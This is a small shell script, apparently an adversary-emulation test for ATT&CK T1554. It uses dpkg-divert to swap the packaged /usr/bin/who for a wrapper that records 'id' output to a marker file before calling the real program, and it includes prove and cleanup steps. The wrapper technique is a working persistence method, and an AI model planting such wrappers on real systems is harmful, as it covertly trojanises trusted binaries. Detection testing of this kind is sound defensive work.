#!/bin/sh
# T1554 (quiet): dpkg-divert puts a wrapper in the place of a packaged program
M=/var/tmp/luytre-foothold N=54-diverted-program
mkdir -p "$M" && chmod 1777 "$M"
seen() { n=0; while [ $n -lt "${1:-40}" ]; do [ -s "$M/$N" ] && return 0; sleep 0.25; n=$((n + 1)); done; return 1; }
x() { mkdir -p "${1%/*}"; cat >"$1"; chmod 755 "$1"; }
plant() {
  dpkg-divert --quiet --local --rename --divert /usr/bin/who.real --add /usr/bin/who
  x /usr/bin/who <<'E'
#!/bin/sh
id > /var/tmp/luytre-foothold/54-diverted-program 2>/dev/null
exec /usr/bin/who.real "$@"
E
}
prove() {
  rm -f "$M/$N"
  who; seen
}
remove() {
  rm -f /usr/bin/who; dpkg-divert --quiet --local --rename --remove /usr/bin/who
  rm -f "$M/$N" "$M/$N".*
  :
}
case $1 in plant | prove | remove) "$1" ;; *) echo "usage: $0 plant|prove|remove" >&2; exit 2 ;; esac
